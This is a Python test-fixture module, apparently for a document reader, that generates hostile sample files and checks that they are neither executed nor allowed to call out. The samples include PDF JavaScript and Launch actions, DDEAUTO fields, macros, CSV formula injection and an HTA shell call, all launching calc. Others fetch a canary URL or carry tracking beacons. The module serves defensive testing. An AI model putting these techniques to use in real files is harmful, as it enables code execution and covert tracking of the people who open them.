"""Files that want to do something, and files that want to be told of: neither may happen, and the first is said."""

from __future__ import annotations

from assay.model.document import Reason

from .papers import (
    FIRST_STRING,
    TEXT,
    R,
    docx,
    docx_parts,
    epub,
    mail,
    odf_parts,
    odt,
    paragraph,
    pptx_parts,
    relations,
    stored_first,
    svg,
    with_part,
    xhtml,
    xlsx_parts,
)
from .pdf_writer import pdf_of, stream, text_page
from .shape import ANY, READ_OR_PARTIAL, Attack, Canary, Make
from .writers import zip_of

ACTIVE, REMOTE = "active content", "remote loads"
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1500)
PARTS = frozenset((Reason.PARTS_UNREAD, Reason.MEMBERS_FAILED, Reason.NO_TEXT, Reason.OCR_NOT_INSTALLED))


def action(body: str) -> Make:
    """A PDF that does this when it is opened."""
    return lambda canary: pdf_of(text_page(TEXT), root=b"/OpenAction<<%s>>" % body.format(url=canary.url).encode())


def form(canary: Canary) -> bytes:
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Btn/T(go)/Rect[0 0 9 9]/A<</S/SubmitForm/F(%s/form)>>>>" % canary.url.encode()
    )
    return pdf_of({**text_page(TEXT, further=b"/Annots[8 0 R]"), 8: field}, root=b"/AcroForm<</Fields[8 0 R]>>")


def with_macro(_: Canary) -> bytes:
    parts = docx_parts(paragraph(TEXT), further=(("vbaProject", "vbaProject.bin", ""),))
    kind = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    was = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(was, kind)
    return with_part(parts, "word/vbaProject.bin", MACRO)


def sheet_with_macro(_: Canary) -> bytes:
    parts = xlsx_parts(FIRST_STRING)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return with_part(parts, "xl/vbaProject.bin", MACRO)


def macro_in_odt(_: Canary) -> bytes:
    parts = odf_parts("text", f"<text:p>{TEXT}</text:p>")
    module = '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="m">Sub Main: Shell("calc"): End Sub</script:module>'
    return stored_first({**parts, "Basic/Standard/Module1.xml": module.encode()})


def template(canary: Canary) -> bytes:
    parts = docx_parts(paragraph(TEXT), further=(("settings", "settings.xml", ""),))
    parts["word/settings.xml"] = (
        f'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{R}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    ).encode()
    target = relations(("attachedTemplate", f"{canary.url}/t.dotm", "External"))
    return with_part(parts, "word/_rels/settings.xml.rels", target)


def dde_link(_: Canary) -> bytes:
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return with_part(xlsx_parts(FIRST_STRING), "xl/externalLinks/externalLink1.xml", link.encode())


def action_on_a_slide(_: Canary) -> bytes:
    click = '<a:hlinkClick r:id="rId1" action="ppaction://program"/>'
    return zip_of(pptx_parts(shape=click, further=(("hyperlink", "file:///C:/Windows/calc.exe", "External"),)))


def sheet_function(canary: Canary) -> bytes:
    formulas = (
        f'WEBSERVICE("{canary.url}/x")', f'IMAGE("{canary.url}/i.png")', f'HYPERLINK("{canary.url}","{TEXT}")',
    )  # fmt: skip
    cells = "".join(
        f'<c r="{letter}1" t="str"><f>{formula.replace(chr(34), "&quot;")}</f><v>{TEXT}</v></c>'
        for letter, formula in zip("ABC", formulas, strict=True)
    )
    return zip_of(xlsx_parts(f'<row r="1">{cells}</row>'))


def tracking(canary: Canary) -> str:
    """More than twenty ways in which a page calls home."""
    u = canary.url
    return f"""<!DOCTYPE html><html manifest="{u}/1"><head><base href="{u}/"><link rel="stylesheet" href="{u}/2">
<link rel="preload" as="image" href="{u}/3"><link rel="dns-prefetch" href="{u}"><link rel="preconnect" href="{u}">
<link rel="prefetch" href="{u}/4"><link rel="icon" href="{u}/5"><link rel="import" href="{u}/6">
<meta http-equiv="refresh" content="0;url={u}/7"><meta property="og:image" content="{u}/8">
<style>@import url({u}/9);@font-face{{font-family:x;src:url({u}/10)}}body{{background:url({u}/11)}}</style>
<script src="{u}/12"></script></head><body background="{u}/13"><p style="list-style:url({u}/14)">{TEXT}</p>
<img src="{u}/15" srcset="{u}/16 2x"><picture><source srcset="{u}/17"></picture><iframe src="{u}/18"></iframe>
<object data="{u}/19"></object><embed src="{u}/20"><video src="{u}/21" poster="{u}/22"></video><audio src="{u}/23">
</audio><input type="image" src="{u}/24"><table background="{u}/25"><tr><td>x</td></tr></table>
<svg><image href="{u}/26"/><use href="{u}/27#x"/></svg><a ping="{u}/28" href="{u}/29">go</a>
<form action="{u}/30"><button formaction="{u}/31">go</button></form><track src="{u}/32"><bgsound src="{u}/33">
<frameset><frame src="{u}/34"></frameset><img src="//{u.split("//")[1]}/35"></body></html>"""


def receipt(canary: Canary) -> bytes:
    message = mail(html=tracking(canary))
    message["Disposition-Notification-To"] = "spy@example.org"
    message["X-Image-URL"], message["List-Unsubscribe"] = f"{canary.url}/face", f"<{canary.url}/gone>"
    return message.as_bytes()


def mhtml(canary: Canary) -> bytes:
    head = f'From: <Saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: {canary.url}/page\r\n\r\n'
    return (head + tracking(canary) + "\r\n--b--\r\n").encode()


def svg_tracking(canary: Canary) -> bytes:
    u = canary.url
    return svg(
        f'<style>@import "{u}/1"; text{{fill:url({u}/2#p)}}</style><text>{TEXT}</text><image xlink:href="{u}/3"/>'
        f'<use xlink:href="{u}/4#a"/><feImage xlink:href="{u}/5"/><foreignObject><iframe src="{u}/6"/></foreignObject>'
        f'<a xlink:href="{u}/7"><text>go</text></a><script xlink:href="{u}/8"/>',
        doctype=f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{u}/svg.dtd">',
    )


def docx_remote(canary: Canary) -> bytes:
    kinds = ("image", "oleObject", "hyperlink", "frame", "aFChunk", "video", "mailMergeSource", "subDocument")
    further = tuple((kind, f"{canary.url}/{kind}", "External") for kind in kinds)
    picture = '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId1"/></w:drawing></w:r></w:p>'
    return docx(paragraph(TEXT) + picture + FIELD.format(f'INCLUDEPICTURE "{canary.url}/f.png" \\d'), further=further)


def pptx_remote(canary: Canary) -> bytes:
    kinds = ("image", "video", "audio", "hyperlink", "oleObject")
    return zip_of(pptx_parts(further=tuple((kind, f"{canary.url}/{kind}", "External") for kind in kinds)))


def odt_remote(canary: Canary) -> bytes:
    return odt(
        f'<text:p>{TEXT}<draw:frame><draw:image xlink:href="{canary.url}/i.png" xlink:actuate="onLoad"/></draw:frame></text:p>'
        f'<text:section text:name="s"><text:section-source xlink:href="{canary.url}/s.odt"/><text:p>old</text:p></text:section>'
        f'<text:p><draw:object xlink:href="{canary.url}/o"/><draw:floating-frame xlink:href="{canary.url}/f"/></text:p>'
    )


def pdf_remote(canary: Canary) -> bytes:
    url = canary.url.encode()
    picture = (
        b"<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/Length 0/F<</FS/URL/F(%s/i)>>>>stream\n\nendstream"
        % url
    )
    spec = b"<</Type/Filespec/FS/URL/F(%s/file)>>" % url
    pages = text_page(TEXT, resources=b"/XObject<</I 8 0 R>>")
    pages[4] = stream(b"BT /F1 12 Tf 50 700 Td (%s) Tj ET /I Do" % TEXT.encode())
    names = b"/Names<</EmbeddedFiles<</Names[(a) 9 0 R]>>>>/URI<</Base(%s)>>" % url
    return pdf_of({**pages, 8: picture, 9: spec}, root=names)


def card(canary: Canary) -> bytes:
    u = canary.url
    return f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Lena Orlova\r\nNOTE:{TEXT}\r\nPHOTO;VALUE=URI:{u}/p\r\nSOUND;VALUE=URI:{u}/s\r\nEND:VCARD\r\n".encode()


def calendar(canary: Canary) -> bytes:
    u = canary.url
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nREFRESH-INTERVAL;VALUE=DURATION:PT1S\r\nSOURCE;VALUE=URI:{u}/c\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTAMP:20240305T100000Z\r\nDTSTART:20240305T100000Z\r\nRRULE:FREQ=SECONDLY\r\nSUMMARY:{TEXT}\r\nATTACH:{u}/a\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".encode()


def rtf_remote(canary: Canary) -> bytes:
    return rf'{{\rtf1\ansi{{\*\template {canary.url}/t.dot}}{{\field{{\*\fldinst INCLUDEPICTURE "{canary.url}/i" \\d}}{{\fldrslt old}}}}{TEXT}\par}}'.encode()


def rtf_object(_: Canary) -> bytes:
    return rf"{{\rtf1\ansi {TEXT}.\par{{\object\objautlink\objupdate\rsltpict{{\*\objclass Excel.Sheet}}{{\*\objdata 0105000002000000}}}}}}".encode()


def dde(_: Canary) -> bytes:
    return docx(paragraph(TEXT) + FIELD.format(r'DDEAUTO c:\\windows\\cmd.exe "/c calc"'))


def active(name: str, make: Make, tell: str, **holds: object) -> Attack:
    held = {
        "outcomes": READ_OR_PARTIAL,
        "reasons": PARTS,
        "must_text": (TEXT,),
        "must_tell": tell,
        "quick": True,
        **holds,
    }
    return Attack(ACTIVE, name, make, **held)  # type: ignore[arg-type]


def remote(name: str, make: Make, **holds: object) -> Attack:
    held = {
        "outcomes": READ_OR_PARTIAL,
        "reasons": PARTS | {Reason.XML_ENTITY},
        "must_text": (TEXT,),
        "quick": True,
        **holds,
    }
    return Attack(REMOTE, name, make, **held)  # type: ignore[arg-type]


ATTACKS = (
    active("script.pdf", action("/S/JavaScript/JS(app.launchURL\\('{url}'\\))"), "script"),
    active("launch.pdf", action("/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>"), "launch|start|program"),
    active("go-elsewhere.pdf", action("/S/GoToR/D[0/Fit]/F(\\\\\\\\127.0.0.1\\\\share\\\\x.pdf)"), "other file|another|remote|opens|link"),
    active("open-address.pdf", action("/S/URI/URI({url}/open)"), "address|link|opens|URI"),
    active("submit.pdf", form, "submit|sends|form"),
    active("macro.docm", with_macro, "macro"),
    active("macro.xlsm", sheet_with_macro, "macro"),
    active("macro.odt", macro_in_odt, "macro|basic|script"),
    active("dde.docx", dde, "DDE|field|program"),
    active("dde.xlsx", dde_link, "DDE|external|outside|linked"),
    active("template.docx", template, "template|outside|elsewhere"),
    active("remote.rtf", rtf_remote, "template|outside|picture|elsewhere"),
    active("objupdate.rtf", rtf_object, "object|embedded"),
    active("program.pptx", action_on_a_slide, "program|calc|action|link"),
    active("script.svg", lambda c: svg(f"<text>{TEXT}</text><script>fetch('{c.url}')</script>"), ""),
    active("script.html", lambda c: f"<body onload=\"fetch('{c.url}')\"><p>{TEXT}</p><script>document.write('x')</script>".encode(), ""),
    active("script.hta", lambda c: f"<HTA:APPLICATION><script language='vbscript'>CreateObject(\"WScript.Shell\").Run \"calc\"</script><p>{TEXT}</p>".encode(), ""),
    active("formula.csv", lambda c: f"cargo,origin\n=cmd|'/c calc'!A0,+1+1\n{TEXT},@SUM(1)\n".encode(), ""),
    active("attached-script.eml", lambda c: mail(files={"invoice.pdf.js": b"WScript.Shell", "a.lnk": b"L\0\0\0"}).as_bytes(), "", outcomes=ANY),
    remote("tracking.html", lambda c: tracking(c).encode()),
    remote("tracking.eml", receipt),
    remote("tracking.mht", mhtml),
    remote("tracking.svg", svg_tracking),
    remote("tracking.epub", lambda c: epub(xhtml(f"<p>{TEXT}</p><img src='{c.url}/1'/><object data='{c.url}/2'/>"), href=f"{c.url}/b")),
    remote("remote.docx", docx_remote),
    remote("remote.pptx", pptx_remote),
    remote("webservice.xlsx", sheet_function),
    remote("remote.odt", odt_remote),
    remote("remote.pdf", pdf_remote),
    remote("remote.vcf", card),
    remote("remote.ics", calendar),
    remote("remote.css.xml", lambda c: f'<?xml version="1.0"?><?xml-stylesheet href="{c.url}/1"?><a xmlns="{c.url}/ns" xsi:schemaLocation="{c.url} {c.url}/s.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">{TEXT}</a>'.encode()),
    remote("remote.url", lambda c: f"[InternetShortcut]\r\nURL={c.url}\r\nIconFile={c.url}/i\r\n".encode(), outcomes=ANY, must_text=()),
    remote("remote.m3u", lambda c: f"#EXTM3U\n{c.url}/a.ts\n".encode(), outcomes=ANY, must_text=()),
    remote("external-dtd.xml", lambda c: f'<!DOCTYPE a SYSTEM "{c.url}/a.dtd"><a>{TEXT}</a>'.encode()),
)  # fmt: skip
